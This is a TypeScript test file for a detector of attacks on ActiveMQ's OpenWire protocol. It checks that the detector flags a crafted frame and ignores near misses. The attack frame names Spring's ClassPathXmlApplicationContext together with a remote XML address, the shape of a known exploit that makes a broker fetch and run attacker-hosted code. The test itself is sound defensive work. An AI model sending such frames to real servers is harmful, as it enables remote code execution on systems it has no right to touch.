import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deedsIn } from '../../../test/service-talk.ts'
import type { Said } from '../../../test/wire.ts'
import { openwire } from './openwire.ts'

const found = (said: readonly Said[]) => deedsIn(openwire, said).exploits.map(([patch]) => patch)
const frame = (body: string): string => `\x00\x00${String.fromCharCode(body.length >> 8, body.length & 255)}${body}`
const format = frame('\x01ActiveMQ\x00\x00\x00\x0c\x01')
const text = (value: string): string => `\x01\x00${String.fromCharCode(value.length)}${value}`
const attack = frame(
  `\x1f\x00\x00\x00\x01\x00\x00\x00\x00\x00\x01\x01${text('org.springframework.context.support.ClassPathXmlApplicationContext')}${text('http://198.51.100.7/p.xml')}`,
)

test('a class to be built from an address, with and without a greeting, in single bytes after it', () => {
  assert.deepEqual(found([[0, attack]]), ['activemq-openwire'])
  assert.deepEqual(found([[1, format], [0, format], ...[...attack].map((c): Said => [0, c])]), ['activemq-openwire'])
})

test('near miss: an exception that is one, other protocols that begin with a length', () => {
  assert.deepEqual(
    found([
      [0, format],
      [0, frame(`\x1f\x00\x00\x00\x01${text('java.lang.SecurityException')}`)],
    ]),
    [],
  )
  assert.deepEqual(
    found([
      [0, frame('\x1fhello hello hello')],
      [0, '\x00\x00\x00\x08\x04\xd2\x16\x2f'],
    ]),
    [],
  )
})
